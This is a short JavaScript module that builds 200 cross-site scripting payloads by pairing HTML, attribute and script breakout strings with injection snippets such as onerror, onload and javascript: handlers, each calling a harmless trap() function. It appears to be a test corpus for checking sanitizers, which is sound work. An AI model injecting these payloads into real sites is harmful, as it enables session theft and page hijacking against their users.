// payloads.mjs - two hundred ways to try to run a script in someone's page;
// each calls trap()

const breakouts = ['', '"', "'", '">', "'>", '`>', '</title>', '</textarea>', '</script>', '--></style>',
  '{{/title}}', '\\"', '&quot;>', '%22%3E', '<svg>', '</svg>', ']]>', '*/', ');', '"}]}</script>'];
const acts = ['<script>trap()</script>', '<img src=x onerror=trap()>', '<svg onload=trap()>', '<svg/onload=trap()//',
  '<details open ontoggle=trap()>', '<input autofocus onfocus=trap()>', ' onmouseover=trap() autofocus onfocus=trap() x=',
  '[x](javascript:trap())', '<iframe srcdoc="<script>parent.trap()</script>">', '<a href="javascript:trap()">x</a>'];

export const payloads = breakouts.flatMap((b) => acts.map((a) => b + a));
